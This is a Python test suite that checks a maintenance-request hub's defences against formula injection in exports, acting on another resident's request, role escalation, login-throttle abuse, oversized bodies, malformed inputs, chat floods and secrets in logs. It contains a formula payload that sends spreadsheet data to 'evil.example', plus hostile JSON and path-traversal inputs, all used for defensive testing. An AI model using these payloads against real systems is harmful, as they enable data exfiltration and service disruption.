"""The journal is evidence: what an attacker on loopback tried, and what the hub does about it.

One test per class of attack: formulas in exports, a button naming someone else's request, a manager
acting on an admin, a login throttle used to lock the owner out, chunked bodies past the limit, hostile
input on every route, floods of chat sockets and frames, session ids and secrets in the logs, and the
security headers on streams."""

from __future__ import annotations

import csv
import io
import json
import logging
import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import openpyxl
import pytest

from adshub.contract import Inbound, InboundKind, Sender
from adshub.logs import JsonFormatter, configure_logging
from adshub.settings import Settings
from app.embedded import EmbeddedDatabase
from app.runtime import Hub
from channels.voicemail.webhook import hook_signature
from inbox.views import LoginThrottle
from journal.repository import Journal
from journal.users import Users
from router.service import Router
from tests.helpers import Dispatcher, connect_chat, journal_of, make_settings, running_hub, wait_for
from tests.standins.telegram_api import TelegramStandIn, message_update

TOKEN = "555777:attack-surface-token-value"
HOOK_SECRET = "hook-secret-for-attack-tests"
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&F2,"открыть")', "+7 916 123 45 67", "-1+1", "@SUM(A1:A9)"]


def chat(session: str, n: int, text: str = "", kind: InboundKind = "message", **payload: Any) -> Inbound:
    return Inbound(
        id=f"webchat:{session}:{n}",
        channel="webchat",
        address=session,
        sender=Sender(id=session),
        kind=kind,
        text=text,
        payload=payload,
        received_at=datetime.now(UTC),
    )


@pytest.fixture
def attack_settings(
    database: EmbeddedDatabase, rabbitmq: str, unique: str, tmp_path: Path, standin: TelegramStandIn
) -> Settings:
    return make_settings(
        database,
        rabbitmq,
        unique,
        tmp_path,
        telegram_token=TOKEN,
        telegram_api_base=standin.base,
        telegram_poll_timeout=1,
        voicemail_webhook_secret=HOOK_SECRET,
        mango_api_key="mango-key",
        mango_api_salt="mango-salt",
        chat_sockets_per_address=5,
    )


@pytest.fixture
async def full_hub(attack_settings: Settings) -> AsyncIterator[Hub]:
    async with running_hub(attack_settings, ["router", "inbox", "webchat", "telegram", "voicemail"]) as hub:
        assert hub.journal is not None
        users = Users(hub.journal)
        await users.add("root", "admin-password", "admin", "Администратор")
        await users.add("boss", "manager-pass", "manager", "Руководитель")
        await users.add("anna", "dispatcher-pass", "dispatcher", "Анна")
        yield hub


@pytest.fixture
async def anna(full_hub: Hub) -> AsyncIterator[Dispatcher]:
    client = Dispatcher(f"http://127.0.0.1:{full_hub.port}")
    assert (await client.login("anna", "dispatcher-pass"))[0] == 200
    yield client
    await client.close()


# -- formulas in exports -------------------------------------------------------------------


async def test_exports_carry_no_formula_whatever_residents_wrote(
    full_hub: Hub, standin: TelegramStandIn, anna: Dispatcher
) -> None:
    for n, formula in enumerate(FORMULAS):
        update = message_update(100 + n, 900100 + n, 1, f"{formula} течёт кран на кухне, Мира 5 кв {n + 1}")
        update["message"]["from"]["first_name"] = formula
        standin.add_update(update)
    await wait_for(lambda: all(standin.sent_to(str(900100 + n)) for n in range(len(FORMULAS))), timeout=30)
    async with anna.http.get(anna.base + "/inbox/journal/export?format=xlsx") as response:
        assert response.status == 200
        book = openpyxl.load_workbook(io.BytesIO(await response.read()))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not [c.value for c in cells if c.data_type == "f"], "a resident's text became a formula"
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells), "the text itself must be kept"
    async with anna.http.get(anna.base + "/inbox/journal/export?format=csv") as response:
        text = (await response.read()).decode("utf-8-sig")
    values = [v for row in csv.reader(io.StringIO(text), delimiter=";") for v in row]
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(v.startswith("'=HYPERLINK") for v in values)


# -- someone else's request --------------------------------------------------------------------


@pytest.mark.parametrize("channel", ["webchat", "telegram", "vk"])
async def test_a_button_acts_only_on_the_residents_own_requests(router: Router, journal: Journal, channel: str) -> None:
    victim = await router.process([chat("victim-session", 1, "Течёт батарея в комнате, Гоголя 14 кв 6")])
    number = victim.registered[0]
    attacker = Inbound(
        id=f"{channel}:cb:attack-1",
        channel=channel,
        address="1337",
        sender=Sender(id="1337"),
        kind="callback",
        payload={"data": f"survey:{number}:1"},
        received_at=datetime.now(UTC),
    )
    pressed = await router.process([attacker])
    followed = await router.process(
        [attacker.model_copy(update={"id": f"{channel}:1337:2", "kind": "message", "text": "ужасно", "payload": {}})]
    )
    status = await router.process(
        [attacker.model_copy(update={"id": f"{channel}:cb:attack-3", "payload": {"data": f"status:{number}"}})]
    )
    request = await journal.request(number)
    assert request is not None and request["survey"]["rating"] is None and request["survey"]["comment"] is None
    trail = [a async for a in journal.audit.find({"request": number})]
    assert [a["action"] for a in trail] == ["registered"], trail
    refusal = pressed.outbounds[0].text
    assert number in refusal and "не найдена" in refusal
    assert not [o for o in followed.outbounds if "оценк" in o.text.lower() or "спасибо" in o.text.lower()]
    assert "не найдена" in status.outbounds[0].text


# -- roles -------------------------------------------------------------------------------------


async def test_nobody_acts_on_a_user_above_them_and_the_last_admin_stays(full_hub: Hub) -> None:
    base = f"http://127.0.0.1:{full_hub.port}"
    boss = Dispatcher(base)
    root = Dispatcher(base)
    try:
        assert (await boss.login("boss", "manager-pass"))[0] == 200
        await boss.get("/inbox/users")
        status, _ = await boss.post("/inbox/users", {"disable": "root"})
        assert status == 403
        status, _ = await boss.post("/inbox/users", {"login": "root", "role": "dispatcher", "change": "role"})
        assert status == 403
        status, _ = await boss.post("/inbox/users", {"login": "anna", "role": "admin", "change": "role"})
        assert status == 403
        assert (await root.login("root", "admin-password"))[0] == 200
        await root.get("/inbox/users")
        status, page = await root.post("/inbox/users", {"disable": "root"})
        assert status == 400 and "последн" in page
        assert (await root.post("/inbox/users", {"disable": "anna"}))[0] == 200
        status, page = await root.get("/inbox/users")
        assert "Журнал действий с пользователями" in page and "anna" in page and "отключил" in page
    finally:
        await boss.close()
        await root.close()
    assert full_hub.journal is not None
    events = [e async for e in full_hub.journal.db["user_events"].find({})]
    assert {(e["actor"], e["target"], e["action"]) for e in events} >= {("root", "anna", "disable")}
    assert any(e["actor"] == "boss" and e["action"] == "refused" for e in events)


# -- the login throttle --------------------------------------------------------------------------


def test_guessing_from_elsewhere_never_locks_the_owner_out() -> None:
    throttle = LoginThrottle()
    clock = 1000.0
    for _ in range(50):
        if throttle.allow("203.0.113.9", "anna", now=clock):
            throttle.failed("203.0.113.9", "anna", now=clock)
        clock += 13
    assert throttle.allow("198.51.100.7", "anna", now=clock), "the owner from her own address is refused"
    refused = sum(not throttle.allow("203.0.113.9", "anna", now=clock + s) for s in range(0, 60, 6))
    assert refused >= 9, "the guesser keeps guessing"


async def test_the_owner_logs_in_from_a_fresh_address_after_failures_elsewhere(full_hub: Hub) -> None:
    base = f"http://127.0.0.1:{full_hub.port}"
    attacker = Dispatcher(base)
    owner = Dispatcher(base)
    owner.http = aiohttp.ClientSession(
        cookie_jar=aiohttp.CookieJar(unsafe=True), connector=aiohttp.TCPConnector(local_addr=("127.0.0.2", 0))
    )
    try:
        statuses = [(await attacker.login("anna", f"guess-{n}"))[0] for n in range(8)]
        assert statuses[-1] == 429 and 401 in statuses
        assert (await owner.login("anna", "dispatcher-pass"))[0] == 200
    finally:
        await attacker.close()
        await owner.close()
    root = Dispatcher(base)
    try:
        await root.login("root", "admin-password")
        _, page = await root.get("/inbox/users")
        assert "Неудачные входы" in page and "127.0.0.1" in page
    finally:
        await root.close()


# -- bodies ------------------------------------------------------------------------------------


async def test_a_chunked_body_is_limited_while_it_is_read(full_hub: Hub, attack_settings: Settings) -> None:
    sent = 0

    async def chunks() -> AsyncIterator[bytes]:
        nonlocal sent
        block = b" " * 65536
        while sent < 20 * 1024 * 1024:
            sent += len(block)
            yield block

    base = f"http://127.0.0.1:{full_hub.port}"
    async with aiohttp.ClientSession() as http:
        for path, content_type in (
            ("/telephony/voicemail", "application/json"),
            ("/telephony/mango/events/call", "application/x-www-form-urlencoded"),
            ("/inbox/login", "application/x-www-form-urlencoded"),
        ):
            sent = 0
            try:
                async with http.post(base + path, data=chunks(), headers={"Content-Type": content_type}) as r:
                    assert r.status == 413, (path, r.status)
            except aiohttp.ClientError:
                pass
            assert sent < 20 * 1024 * 1024, f"{path} read the whole 20 MB"


# -- hostile input on every route --------------------------------------------------------------

HOSTILE_BODIES: list[tuple[str, bytes]] = [
    ("application/json", b"[" * 100_000 + b"]" * 100_000),
    ("application/json", b'{"a":' * 5000 + b"1" + b"}" * 5000),
    ("application/json", json.dumps({"id": 7, "update_id": "x", "seq": 10**400, "text": ["a"]}).encode()),
    ("application/json", b'{"received_at": "0001-01-01T00:00:00+00:00", "id": "x", "update_id": 99999999999999999999}'),
    ("application/json", b"\xff\xfe\xfd not utf-8 \x80"),
    ("application/x-www-form-urlencoded", b"json=" + b"%5B" * 20000 + b"&sign=x&vpbx_api_key=mango-key"),
    ("application/x-www-form-urlencoded", b"status=done&at=0001-01-01T00:00&staff=../../x"),
    ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=photos; filename=a\r\n\r\n\xff"),
]
HOSTILE_QUERIES = [
    "page=1e21",
    "page=100000000000000000000000000",
    "page=-5",
    "from=0001-01-01&to=9999-12-31",
    "from=2026-02-30",
    "format=xlsx&from=0001-01-01",
    "address=%00%ff",
]


def _concrete(path: str) -> str:
    return (
        path.replace("{conversation}", "webchat:nobody")
        .replace("{number}", "2026-999999")
        .replace("{action}", "status")
        .replace("{task}", "none")
        .replace("{reference}", "gridfs:0123456789abcdef01234567")
        .replace("{event:.+}", "call")
    )


def _routes(app: Any, prefix: str = "") -> Iterator[tuple[str, str]]:
    for resource in app.router.resources():
        info = resource.get_info()
        if "app" in info:
            yield from _routes(info["app"], prefix)
            continue
        path = info.get("path") or info.get("formatter")
        if path is None:
            continue
        for route in resource:
            if route.method in ("GET", "POST"):
                yield route.method, prefix + path


async def test_no_hostile_input_on_any_route_gets_a_500(full_hub: Hub, anna: Dispatcher) -> None:
    assert full_hub.app is not None
    routes = sorted(set(_routes(full_hub.app)))
    assert ("POST", "/telephony/voicemail") in routes and ("GET", "/inbox/journal") in routes
    failures = []
    for method, path in routes:
        url = anna.base + _concrete(path)
        if path.startswith("/static") or path == "/chat/ws":
            continue
        if method == "GET":
            for query in HOSTILE_QUERIES:
                async with anna.http.get(f"{url}?{query}", headers={"Accept": "text/html"}) as r:
                    if r.status >= 500:
                        failures.append((method, path, query, r.status))
            continue
        for content_type, body in HOSTILE_BODIES:
            headers = {"Content-Type": content_type, "X-CSRF-Token": anna.csrf}
            if path == "/telephony/voicemail":
                stamp = str(int(time.time()))
                headers |= {"X-Adshub-Timestamp": stamp, "X-Adshub-Signature": hook_signature(HOOK_SECRET, stamp, body)}
            if path.startswith("/telegram"):
                headers["X-Telegram-Bot-Api-Secret-Token"] = "wrong"
            async with anna.http.post(url, data=body, headers=headers) as r:
                if r.status >= 500:
                    failures.append((method, path, body[:40], r.status))
    assert not failures, failures


async def test_no_hostile_input_on_the_telegram_webhook_gets_a_500(
    database: EmbeddedDatabase, rabbitmq: str, unique: str, tmp_path: Path, standin: TelegramStandIn
) -> None:
    settings = make_settings(
        database,
        rabbitmq,
        unique,
        tmp_path,
        telegram_token=TOKEN,
        telegram_api_base=standin.base,
        telegram_webhook_url="https://hub.example/telegram/hook",
        telegram_webhook_secret="webhook-secret",
    )
    async with running_hub(settings, ["router", "telegram"]) as hub, aiohttp.ClientSession() as http:
        await wait_for(lambda: standin.webhook)
        for content_type, body in HOSTILE_BODIES:
            headers = {"Content-Type": content_type, "X-Telegram-Bot-Api-Secret-Token": "webhook-secret"}
            async with http.post(f"http://127.0.0.1:{hub.port}/telegram/hook", data=body, headers=headers) as r:
                assert r.status < 500, (body[:40], r.status)


async def test_a_stored_photo_with_a_charset_in_its_type_is_downloadable(full_hub: Hub, anna: Dispatcher) -> None:
    assert full_hub.journal is not None
    reference = await full_hub.journal.store_file(b"\x89PNG\r\n", "photo.png", "image/png; charset=binary")
    async with anna.http.get(f"{anna.base}/inbox/files/{reference}") as r:
        assert r.status == 200 and r.content_type == "image/png" and await r.read() == b"\x89PNG\r\n"


# -- the chat ----------------------------------------------------------------------------------


async def test_the_chat_caps_sockets_per_address_and_frames_per_session(
    full_hub: Hub, attack_settings: Settings
) -> None:
    base = f"http://127.0.0.1:{full_hub.port}"
    async with aiohttp.ClientSession() as http:
        opened = []
        refused = 0
        for n in range(8):
            try:
                opened.append(await http.ws_connect(f"{base}/chat/ws?session=flood-session-{n:04d}&fresh=1"))
            except aiohttp.WSServerHandshakeError as exc:
                assert exc.status == 429
                refused += 1
        assert len(opened) == 5 and refused == 3
        ws = opened[0]
        await ws.receive_json()
        for _ in range(300):
            await ws.send_json({"type": "history"})
        for _ in range(300):
            await ws.send_json({"type": "ping"})
        frames = []
        while len(frames) < 600:
            frames.append(await ws.receive_json(timeout=10))
        histories = [f for f in frames if f["type"] == "history"]
        limited = [f for f in frames if f.get("code") == "rate_limited"]
        assert len(histories) <= 30 and len(limited) >= 500
        for socket in opened:
            await socket.close()
        again = await http.ws_connect(f"{base}/chat/ws?session=flood-session-0009&fresh=1")
        await again.close()


# -- the logs ----------------------------------------------------------------------------------


class Captured(logging.Handler):
    """The hub's log lines exactly as they would be written (``configure_logging`` sets the formatter)."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


async def test_the_logs_of_a_full_run_carry_no_session_id_and_no_secret(
    database: EmbeddedDatabase, rabbitmq: str, unique: str, tmp_path: Path, standin: TelegramStandIn
) -> None:
    captured = Captured()
    root = logging.getLogger()
    previous = root.level, list(root.handlers)
    configure_logging("DEBUG", "json", handler=captured)
    session = "secret-session-4f9c2a7e"
    settings = make_settings(
        database,
        rabbitmq,
        unique,
        tmp_path,
        telegram_token=TOKEN,
        telegram_api_base=standin.base,
        telegram_poll_timeout=1,
        voicemail_webhook_secret=HOOK_SECRET,
    )
    try:
        async with running_hub(settings, ["router", "webchat", "telegram", "voicemail"]) as hub:
            async with aiohttp.ClientSession() as http:
                client = await connect_chat(http, hub.port or 0, session)
                await client.send("m1", "Прорвало трубу, хлещет вода! Ленина 5 кв 1")
                await client.receive_type("message")
                await client.send("m2", "")
                await client.receive_type("error")
                await client.ws.close()
                body = '{"id": "pbx-1", "caller": "+79161234567", "transcript": "течёт крыша"}'.encode()
                stamp = str(int(time.time()))
                headers = {"X-Adshub-Timestamp": stamp, "X-Adshub-Signature": "sha256=forged"}
                async with http.post(f"http://127.0.0.1:{hub.port}/telephony/voicemail", data=body, headers=headers):
                    pass
            standin.add_update(message_update(1, 700001, 1, "Запах газа в подъезде, Мира 3"))
            await wait_for(lambda: standin.sent_to("700001"))
            standin.blocked_chats.add("700001")
            standin.add_update(message_update(2, 700001, 2, "ещё раз: газ!"))
            async with journal_of(settings) as j:
                await wait_for(lambda: j.deliveries.find_one({"status": "failed"}))
    finally:
        root.setLevel(previous[0])
        root.handlers[:] = previous[1]
    text = "\n".join(captured.lines)
    assert "webchat" in text and "registered request" in text, "the run must have logged its messages"
    for secret in (session, TOKEN, TOKEN.split(":")[1], HOOK_SECRET):
        leaks = [line for line in captured.lines if secret in line]
        assert not leaks, f"{secret!r} is in the logs: {leaks[0][:600]}"


def test_a_broken_log_call_is_formatted_and_masked() -> None:
    message = "attempt %d failed (%s); next in %.1fs"
    record = logging.LogRecord("x", logging.INFO, __file__, 1, message, (3, f"bot{TOKEN}"), None)
    line = JsonFormatter().format(record)
    assert TOKEN.split(":")[1] not in line and "attempt" in line


# -- headers -----------------------------------------------------------------------------------


async def test_security_headers_are_on_every_response_streams_included(full_hub: Hub, anna: Dispatcher) -> None:
    for path in ("/inbox/events", "/inbox/", "/metrics", "/chat", "/chat/widget.js", "/healthz", "/nowhere"):
        async with anna.http.get(anna.base + path) as r:
            assert r.headers.get("X-Content-Type-Options") == "nosniff", path
            assert "default-src" in r.headers.get("Content-Security-Policy", ""), path
            assert r.headers.get("Referrer-Policy") == "same-origin", path


# -- a change and its audit entry ----------------------------------------------------------------


class Crash(Exception):
    """The process died here."""


class AuditThatDies:
    """The audit collection, with its insert dying before it reaches the server."""

    def __init__(self, real: Any) -> None:
        self._real = real

    def __getattr__(self, name: str) -> Any:
        if name == "insert_one":

            async def crash(*args: Any, **kwargs: Any) -> None:
                raise Crash("killed before the audit entry was written")

            return crash
        return getattr(self._real, name)


async def test_a_change_in_the_inbox_never_exists_without_its_audit_entry(
    router: Router, journal: Journal, bus: Any, settings: Settings
) -> None:
    from app.runtime import channel_directory
    from bots.texts import Texts
    from domain.deadlines import DeadlinePolicy
    from inbox.actions import Actor, Inbox

    outcome = await router.process([chat("audited-session", 1, "Течёт батарея в комнате, Гоголя 14 кв 6")])
    number = outcome.registered[0]
    inbox = Inbox(
        journal, bus, Texts(DeadlinePolicy().tz, "УК"), DeadlinePolicy(), settings, channel_directory(settings)
    )
    real = journal.audit
    journal.audit = AuditThatDies(real)  # type: ignore[assignment]
    try:
        with pytest.raises(Crash):
            await inbox.add_note(number, "перекрыли стояк", Actor("anna", "Анна"), datetime.now(UTC))
        with pytest.raises(Crash):
            await inbox.change_category(number, "water_accident", True, Actor("anna", "Анна"), datetime.now(UTC))
    finally:
        journal.audit = real  # type: ignore[assignment]
    request = await journal.request(number)
    assert request is not None
    assert request["notes"] == [], "a note was written without its audit entry"
    assert request["category"] == "heating_accident", "a category change was written without its audit entry"
